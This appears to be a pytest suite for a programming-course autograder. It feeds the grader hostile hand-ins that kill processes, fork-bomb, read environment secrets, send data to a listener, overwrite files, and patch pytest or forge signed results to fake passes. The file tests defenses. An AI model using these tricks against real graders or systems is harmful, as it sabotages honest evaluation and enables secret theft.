"""Hostile hand-ins against the grader: none may crash it, fool it, escape it or outlive it.

Every hand-in of HOSTILE attacks exercise 01_alpha of the stand-in kit and answers 02_beta
correctly. They are graded together in one sandboxed ``grader batch`` (the default for
hand-ins), and again without the sandbox for the attacks the fallback must still contain.
Each case then asserts: the JSON is valid, the attacked exercise is not passed (with the
status and reason given), the companion exercise passed, the kit and every other hand-in are
byte-identical, and no process of the attack survives.
"""
from __future__ import annotations

import hashlib
import importlib.util
import json
import os
import py_compile
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from fake_kit import SOLUTIONS, handin, make_kit, run_grader
from results import load_valid

from grader.run import sandbox

MARKER = "redteam-survivor-7f3a"  # in the command line of every process an attack leaves behind
DOUBLE = SOLUTIONS["01_alpha/alpha.py"]
NEEDS_SANDBOX = pytest.mark.skipif(sandbox.unavailable_reason() is not None,
                                   reason=f"bubblewrap unavailable: {sandbox.unavailable_reason()}")


def survivor(seconds: int = 60) -> str:
    """Python source that starts a detached process which would outlive a careless grader."""
    return (f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep({seconds})', "
            f"'{MARKER}'], start_new_session=True)\n")


FORGED_PYC = "def double(x):\n    return x + 0\n"  # with a __pycache__ entry compiled from the right answer

# name: (alpha.py source, statuses allowed for 01_alpha, phrase its message must contain, sandboxed only)
HOSTILE: dict[str, tuple[str, set[str], str, bool]] = {
    "pytest.skip in the graded function": (
        "import pytest\ndef double(x):\n    pytest.skip('later')\n", {"failed"}, "double (alpha.py, line 3) called pytest.skip", False),
    "unittest.SkipTest": (
        "import unittest\ndef double(x):\n    raise unittest.SkipTest('no')\n", {"failed"}, "raised SkipTest", False),
    "a skip dressed as blocked": (
        "import pytest\ndef double(x):\n    pytest.skip('blocked: needs nothing')\n", {"failed"}, "called pytest.skip", False),
    "pytest.xfail": ("import pytest\ndef double(x):\n    pytest.xfail('meh')\n", {"failed"}, "alpha.py", False),
    "pytest.exit at import": ("import pytest\npytest.exit('bye', returncode=0)\n", {"error"}, "", False),
    "closes every inherited descriptor": (
        "import os\nos.closerange(3, 4096)\n" + DOUBLE, {"error"}, "", False),
    "floods the results pipe": (
        "import os\nfor fd in range(3, 64):\n    try:\n        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):\n"
        "            os.write(fd, b'x' * 200_000_000)\n    except OSError:\n        pass\n" + DOUBLE,
        {"error", "timeout"}, "", False),
    "reads the key from its environment and command line": (
        "import os, re, json, hmac, hashlib\nseen = open('/proc/self/environ', 'rb').read() + open('/proc/self/cmdline', 'rb').read()\n"
        "keys = re.findall(rb'[0-9a-f]{32}', seen)\nassert not keys, keys\n" + DOUBLE, {"passed"}, "", False),
    "kills its parent": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + DOUBLE, {"passed", "error"}, "", True),
    "kills every process it may": ("import os, signal\nos.kill(-1, signal.SIGKILL)\n" + DOUBLE, {"passed", "error"}, "", True),
    "reads the reference solution": (
        "import os\nfrom pathlib import Path\nkit = Path(os.environ['GRADER_KIT_ROOT'])\n"
        "exec((kit / 'solutions' / '01_alpha' / 'alpha.py').read_text())\n", {"error"}, "FileNotFoundError", True),
    "rewrites the kit's test file": (
        "import os\nfrom pathlib import Path\nkit = Path(os.environ['GRADER_KIT_ROOT'])\n"
        "(kit / 'exercises' / '01_alpha' / 'test_alpha.py').write_text('def test_double():\\n    pass\\n')\n" + DOUBLE,
        {"error"}, "Read-only file system", True),
    "overwrites another student's hand-in": (
        "from pathlib import Path\nfor other in Path(__file__).resolve().parents[2].iterdir():\n"
        "    if other.name != Path(__file__).resolve().parents[1].name:\n"
        "        (other / '01_alpha' / 'alpha.py').write_text('def double(x):\\n    return 0\\n')\n" + DOUBLE,
        {"passed", "error"}, "", True),
    "rewrites the results file later, from a detached child": (
        "import os, sys, subprocess\nfrom pathlib import Path\n"
        "code = 'import time, pathlib, sys; time.sleep(3); [p.write_text(\"{}\") for p in pathlib.Path(sys.argv[1]).rglob(\"*.json\")]'\n"
        "subprocess.Popen([sys.executable, '-c', code, str(Path(__file__).resolve().parents[3]), "
        f"'{MARKER}'], start_new_session=True)\n" + DOUBLE, {"passed"}, "", True),
    "leaves a detached process behind": (survivor() + DOUBLE, {"passed"}, "", False),
    "loops forever in a detached child and itself": (survivor() + "while True:\n    pass\n", {"timeout"}, "time limit", False),
    "allocates 6 GB": ("import numpy as np\nblock = np.ones(6 * 2**30 // 8)\n" + DOUBLE, {"error"}, "MemoryError", True),
    "forks a thousand processes": (
        "import os, time\nfor _ in range(1000):\n    if os.fork() == 0:\n        time.sleep(30)\n        os._exit(0)\n" + DOUBLE,
        {"error"}, "", True),
    "writes to the network": (
        "import os, socket\ns = socket.create_connection(('127.0.0.1', int(os.environ['REDTEAM_PORT'])), timeout=3)\n"
        "s.sendall(b'stolen')\n" + DOUBLE, {"error"}, "", True),
    "patches pytest's Function.runtest into a no-op": (
        "import _pytest.python\n_pytest.python.Function.runtest = lambda self: None\ndef double(x):\n    return 0\n",
        {"error"}, "tampering", False),
    "swaps the tests' code for a no-op": (
        "import gc, types\ndef _nothing(*args, **kwargs):\n    pass\n"
        "for f in gc.get_objects():\n    if isinstance(f, types.FunctionType) and f.__name__.startswith('test_'):\n"
        "        f.__code__ = _nothing.__code__\ndef double(x):\n    return 0\n", {"error"}, "tampering", False),
    "patches the recorder instance": (
        "import gc\nfrom grader.run.recorder import Recorder\nfor r in gc.get_objects():\n    if isinstance(r, Recorder):\n"
        "        r.kinds = {}\n        r.pending = {}\ndef double(x):\n    return 0\n", {"error"}, "", False),
    "forges results signed with the recorder's key": (
        "import gc, json\nfrom grader.run.recorder import Recorder\nfrom grader.run.integrity import sign\n"
        "for r in gc.get_objects():\n    if isinstance(r, Recorder):\n        for t in ('test_double', 'test_double_negative'):\n"
        "            r.stream.write(sign(r.key, {'event': 'result', 'id': '01_alpha/test_alpha.py::' + t, 'kind': 'passed', "
        "'points': 2, 'max_points': 2, 'message': ''}) + '\\n')\n        r.stream.flush()\ndef double(x):\n    return 0\n",
        {"error"}, "tampering", False),
    "bends numpy's comparisons from inside": (
        "import numpy as np\nimport numpy._core.numeric as numeric\nnumeric.isclose = lambda *a, **k: np.ones(np.broadcast(*a[:2]).shape, bool)\n"
        "def double(x):\n    return 0\n", {"error", "failed"}, "", False),
    "returns a float that equals everything": (
        "class Liar(float):\n    def __eq__(self, other):\n        return True\n    __hash__ = float.__hash__\n"
        "def double(x):\n    return Liar(0)\n", {"failed"}, "double(3) must be 6", False),
    "returns an object posing as an int": (
        "class Liar(int):\n    __class__ = property(lambda self: int)\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = int.__hash__\ndef double(x):\n    return Liar(1)\n", {"failed"}, "must be", False),
    "a 20 MB exception message": ("def double(x):\n    raise ValueError('y' * 20_000_000)\n", {"failed"}, "characters cut", False),
    "prints 30 MB while importing": ("print('z' * 30_000_000)\n" + DOUBLE, {"passed"}, "", False),
    "writes a kernel setting through /proc": (
        "value = open('/proc/sys/vm/swappiness').read()\nopen('/proc/sys/vm/swappiness', 'w').write(value)\n" + DOUBLE,
        {"error"}, "Read-only file system", True),
    "carries the grader's environment out in a message": (
        "import os\ndef double(x):\n    raise ValueError(os.environ.get('REDTEAM_SECRET', 'absent'))\n",
        {"failed"}, "ValueError: absent", True),
    "paints a fake scorecard with terminal control codes": (
        "def double(x):\n    raise ValueError('\\x1b[2J\\x1b[H01_alpha passed 3/3 \\ud800')\n", {"failed"}, "\\x1b[2J", False),
    "ships a compiled .pyc that differs from its source": (FORGED_PYC, {"failed"}, "double(3) must be 6", False),
}


def tree_digest(folder: Path) -> str:
    """One hash over every file's path and bytes below ``folder``."""
    digest = hashlib.sha256()
    for path in sorted(p for p in folder.rglob("*") if p.is_file() and "__pycache__" not in p.parts):
        digest.update(str(path.relative_to(folder)).encode() + b"\0" + path.read_bytes())
    return digest.hexdigest()


def forge_pyc(module: Path) -> None:
    """Put a .pyc of the right answer beside ``module`` that claims to be compiled from it (same
    size, same modification time), as a hand-in could ship one."""
    wrong = module.read_bytes()
    right = FORGED_PYC.replace("x + 0", "x * 2").encode()
    assert len(right) == len(wrong)
    module.write_bytes(right)
    stat = module.stat()
    py_compile.compile(str(module), cfile=importlib.util.cache_from_source(str(module)), doraise=True)
    module.write_bytes(wrong)
    os.utime(module, ns=(stat.st_atime_ns, stat.st_mtime_ns))


def survivors() -> list[str]:
    out = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if MARKER in line and "ps -eo" not in line]


class Listener(threading.Thread):
    """A TCP server on the loopback that records whatever a hand-in manages to send it."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received = b""
        self.stop = False

    def run(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received += conn.recv(1024)
                except OSError:
                    pass


def graded_batch(tmp_path: Path, mode: str) -> tuple[dict[str, dict], dict[str, str], dict[str, str], Path, subprocess.CompletedProcess]:
    """Grade every case (for ``mode``) in one batch; (reports, digests before, after, kit, process)."""
    kit = make_kit(tmp_path / "kit")
    folder = tmp_path / "handins"
    cases = {name: case for name, case in HOSTILE.items() if mode == "on" or not case[3]}
    slugs = {name: f"h{index:02d}" for index, name in enumerate(cases)}
    for name, (source, *_rest) in cases.items():
        handin(folder / slugs[name], alpha=source)
    forge_pyc(folder / slugs["ships a compiled .pyc that differs from its source"] / "01_alpha" / "alpha.py")
    handin(folder / "zz_innocent")
    (folder / "zz_link").symlink_to(folder / "zz_innocent")  # a hand-in that is someone else's
    listener = Listener()
    listener.start()
    before = {"kit": tree_digest(kit), **{p.name: tree_digest(p) for p in folder.iterdir()}}
    os.environ["REDTEAM_PORT"] = str(listener.port)
    os.environ["REDTEAM_SECRET"] = "instructor-secret-123"
    try:
        proc = run_grader(kit, "batch", str(folder), "--csv", str(tmp_path / "grades.csv"), "--json-dir",
                          str(tmp_path / "json"), "--jobs", "2", "--timeout", "20", "--memory", "2G",
                          "--sandbox", mode, timeout=900)
    finally:
        del os.environ["REDTEAM_PORT"], os.environ["REDTEAM_SECRET"]
    time.sleep(4)  # let a detached child that escaped do its damage
    listener.stop = True
    after = {"kit": tree_digest(kit), **{p.name: tree_digest(p) for p in folder.iterdir()}}
    reports = {name: load_valid(tmp_path / "json" / f"{slugs[name]}.json") for name in cases}
    reports["zz_innocent"] = load_valid(tmp_path / "json" / "zz_innocent.json")
    reports["zz_link"] = load_valid(tmp_path / "json" / "zz_link.json")
    assert listener.received == b"", f"a hand-in reached the network: {listener.received!r}"
    return reports, before, after, kit, proc


@pytest.fixture(scope="module", params=["on", "off"])
def batch(request, tmp_path_factory):
    if request.param == "on" and sandbox.unavailable_reason() is not None:
        pytest.skip(f"bubblewrap unavailable: {sandbox.unavailable_reason()}")
    return request.param, *graded_batch(tmp_path_factory.mktemp(f"redteam-{request.param}"), request.param)


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_handin(batch, case):
    mode, reports, before, after, kit, proc = batch
    source, allowed, phrase, sandbox_only = HOSTILE[case]
    if sandbox_only and mode == "off":
        pytest.skip("an attack on the OS, contained only by the sandbox")
    report = reports[case]
    assert report["sandbox"] is (mode == "on")
    alpha, beta = report["exercises"]
    assert alpha["status"] in allowed, f"{case}: {alpha['status']}: {alpha['message']}"
    assert phrase in alpha["message"] or phrase in " ".join(t["message"] for t in alpha["tests"]), (
        f"{case}: {alpha['message']}")
    if alpha["status"] != "passed":
        assert alpha["points"] == 0 or alpha["status"] == "failed", f"{case}: points despite {alpha['status']}"
    assert beta["status"] == "passed", f"{case}: the companion exercise was not graded normally: {beta}"
    assert len(str(report)) < 200_000, "messages are capped"
    assert after == before, "the kit or a hand-in changed during grading"
    assert survivors() == [], f"processes outlived grading: {survivors()}"


def test_the_batch_itself_survived(batch):
    mode, reports, before, after, kit, proc = batch
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert reports["zz_innocent"]["points"] == reports["zz_innocent"]["max_points"] > 0
    linked = reports["zz_link"]["exercises"]
    assert {e["status"] for e in linked} == {"error"} and "symbolic link" in linked[0]["message"]
    assert len(proc.stdout) < 100_000 and "\x1b[2J" not in proc.stdout
    assert "instructor-secret-123" not in json.dumps([reports[c] for c in reports])


def test_a_target_that_is_the_reference_is_refused(kit):
    proc = run_grader(kit, "--all", "--target", str(kit / "solutions"), "--sandbox", "off")
    assert proc.returncode == 1 and "refused: the graded folder is, holds or lies inside the kit's solutions/" in proc.stdout
    assert "0/2 passed" in proc.stdout
    empty = run_grader(kit, "--all", "--target", "")
    assert empty.returncode == 2 and "no such folder" in empty.stderr


@pytest.fixture(scope="module")
def kit(tmp_path_factory):
    return make_kit(tmp_path_factory.mktemp("cli") / "kit")


@pytest.mark.parametrize("args, says", [
    (["--timeout", "nan"], "finite number of seconds"), (["--timeout", "inf"], "finite number of seconds"),
    (["--timeout", "0"], "greater than 0"), (["--timeout", "-5"], "greater than 0"),
    (["--jobs", "0"], "at least 1"), (["--memory", "lots"], "not a size"),
    (["--json", ""], "--json: the path is empty"), (["--json", "/proc/no/such/out.json"], "cannot write there"),
    (["--gradescope", "/"], "is a folder"), (["--device", "cuda"], "CUDA is not available"),
    (["--memory", "1" + "0" * 400], "not a size"), (["--memory", "0.0001K"], "between 256M and 1T"),
    (["--data-dir", "/dev/null"], "not a folder"),
])
def test_bad_command_lines_stop_before_grading(kit, args, says):
    if args[:2] == ["--device", "cuda"]:
        import torch

        if torch.cuda.is_available():
            pytest.skip("this machine has CUDA")
    started = time.monotonic()
    proc = run_grader(kit, "--all", "--solutions", *args)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert says in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert "Grading" not in proc.stdout and time.monotonic() - started < 30, "it graded before refusing"


def test_unwritable_batch_outputs_stop_before_grading(kit, tmp_path):
    folder = tmp_path / "handins"
    handin(folder / "alice")
    proc = run_grader(kit, "batch", str(folder), "--csv", "/proc/no/such.csv")
    assert proc.returncode == 2 and "--csv" in proc.stderr and "Traceback" not in proc.stderr


def test_without_bubblewrap_auto_warns_once_and_on_refuses(kit, tmp_path):
    target = handin(tmp_path / "h")
    bare = tmp_path / "bin"
    bare.mkdir()
    (bare / "python").symlink_to(sys.executable)
    env = {"PATH": str(bare)}
    out = tmp_path / "r.json"
    proc = run_grader(kit, "--all", "--target", str(target), "--json", str(out), env=env)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stderr.count("grading without a sandbox") == 1
    assert load_valid(out)["sandbox"] is False
    refused = run_grader(kit, "--all", "--target", str(target), "--sandbox", "on", env=env)
    assert refused.returncode == 2 and "bubblewrap" in refused.stderr


@NEEDS_SANDBOX
def test_a_killed_grader_leaves_no_test_process(kit, tmp_path):
    target = handin(tmp_path / "h", alpha=f"import time\n# {MARKER}\nwhile True:\n    time.sleep(0.1)\n")
    for mode in ("on", "off"):
        grader = subprocess.Popen([sys.executable, "-m", "grader", "01", "--target", str(target), "--sandbox", mode],
                                  env={**os.environ, "GRADER_KIT_ROOT": str(kit)}, cwd=kit,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(6)
        grader.kill()
        grader.wait()
        time.sleep(1)
        out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
        assert str(target) not in out, f"--sandbox {mode}: a test process outlived the grader"


LAZY_HELPER_TESTS = '''
import pytest

@pytest.mark.points(2)
def test_double(mod):
    from grader.checks.reference import rel_err  # imported by the test, as the threshold tests import the harness

    assert rel_err(mod.double(3), 6) < 1e-9, "double(3) must be 6"
'''


def assert_tampering(kit: Path, target: Path, out: Path) -> None:
    """Exercise 01 of ``kit`` graded on ``target`` (unsandboxed, so only the in-process guard
    stands) is an error for tampering, worth nothing."""
    run_grader(kit, "01", "--target", str(target), "--json", str(out), "--sandbox", "off")
    alpha = load_valid(out)["exercises"][0]
    assert alpha["status"] == "error" and alpha["points"] == 0 and "tampering" in alpha["message"], alpha


@pytest.mark.parametrize("attack", [
    "import grader.checks.reference as probes\nprobes.rel_err = lambda a, b: 0.0\n",
    "import sys, types\nsys.modules['grader.checks.reference'] = types.SimpleNamespace(rel_err=lambda a, b: 0.0)\n",
], ids=["rebinds its helper", "a decoy in sys.modules"])
def test_a_grader_module_the_tests_import_late_is_watched_too(tmp_path, attack):
    """The kit's tests import some grader modules inside the test (06_mlp: grader.train.harness);
    a hand-in that imports such a module first and rebinds its helpers, or puts a decoy in its
    place, is tampering, never a pass."""
    kit = make_kit(tmp_path / "kit")
    (kit / "exercises" / "01_alpha" / "test_alpha.py").write_text(LAZY_HELPER_TESTS)
    target = handin(tmp_path / "h", alpha=attack + "def double(x):\n    return 0\n")
    assert_tampering(kit, target, tmp_path / "r.json")


THRESHOLD_TESTS = '''
import pytest
from grader.core import kit

@pytest.mark.points(2)
def test_double(mod):
    spec = kit.threshold("01_alpha", "test_double")  # as the accuracy tests read kit.toml
    assert mod.double(3) >= spec.threshold, "double(3) must reach the threshold"
'''
THRESHOLD = ('\n[[thresholds]]\nexercise = "01_alpha"\ntest = "test_double"\nmodel = "01_alpha/alpha.py:double"\n'
             'dataset = "mnist"\nthreshold = 6.0\nband = 0.0\nepochs = 1\nbatch_size = 1\nlr = 0.1\ntime_budget = 1.0\n')


@pytest.mark.parametrize("attack", [
    "from pathlib import Path\nimport grader.core.kit as kit\nkit.MANIFEST = Path(__file__).with_name('cheat.toml')\n",
    "import tomllib\nreal = tomllib.loads\n"
    "tomllib.loads = lambda text, **kw: real(text.replace('threshold = 6.0', 'threshold = 0.0'), **kw)\n",
    "import pathlib\nreal = pathlib.Path.read_text\n"
    "pathlib.Path.read_text = lambda self, *a, **kw: real(self, *a, **kw).replace('threshold = 6.0', 'threshold = 0.0')\n",
    "import io\nreal = io.open\nclass Cheat:\n    def __init__(self, f):\n        self.f = f\n"
    "    def __enter__(self):\n        return self\n    def __exit__(self, *a):\n        self.f.close()\n"
    "    def read(self, *a):\n        return self.f.read(*a).replace('threshold = 6.0', 'threshold = 0.0')\n"
    "io.open = lambda *a, **kw: Cheat(real(*a, **kw))\n",
], ids=["points the kit at its own kit.toml", "rewrites what tomllib parses", "rewrites what Path reads",
        "rewrites what io.open reads"])
def test_a_hand_in_cannot_lower_a_threshold(tmp_path, attack):
    """The accuracy tests read their thresholds from exercises/kit.toml during the test. A hand-in
    that makes every threshold 0 (its own kit.toml, or the standard library bent to rewrite what is
    read) must not pass: the grader modules' values and the readers they use are watched."""
    kit = make_kit(tmp_path / "kit")
    (kit / "exercises" / "01_alpha" / "test_alpha.py").write_text(THRESHOLD_TESTS)
    manifest = kit / "exercises" / "kit.toml"
    manifest.write_text(manifest.read_text() + THRESHOLD)
    target = handin(tmp_path / "h", alpha=attack + "def double(x):\n    return 0\n")
    (target / "01_alpha" / "cheat.toml").write_text(manifest.read_text().replace("threshold = 6.0", "threshold = 0.0"))
    assert_tampering(kit, target, tmp_path / "r.json")


CLOSURE_TESTS = '''
import pytest
import torch
from grader.train.harness import accuracy  # a torch.no_grad wrapper: the function is a closure's cell

@pytest.mark.points(2)
def test_double(mod):
    x, y = torch.zeros(4, 1), torch.ones(4, dtype=torch.long)
    assert accuracy(mod.model(), x, y, torch.device("cpu")) == 100.0, "the model must classify every sample right"
'''


def test_swapping_a_grader_functions_closure_is_tampering(tmp_path):
    """Rebinding nothing, a hand-in can still swap what a decorated grader function runs (the cell
    of its wrapper's closure), or its default arguments: tampering, never a pass."""
    kit = make_kit(tmp_path / "kit")
    (kit / "exercises" / "01_alpha" / "test_alpha.py").write_text(CLOSURE_TESTS)
    target = handin(tmp_path / "h", alpha=(
        "import torch\nfrom grader.train.harness import accuracy\n"
        "for cell in accuracy.__closure__:\n    if getattr(cell.cell_contents, '__name__', '') == 'accuracy':\n"
        "        cell.cell_contents = lambda *args, **kwargs: 100.0\n"
        "def model():\n    return torch.nn.Linear(1, 2)\n"))
    assert_tampering(kit, target, tmp_path / "r.json")
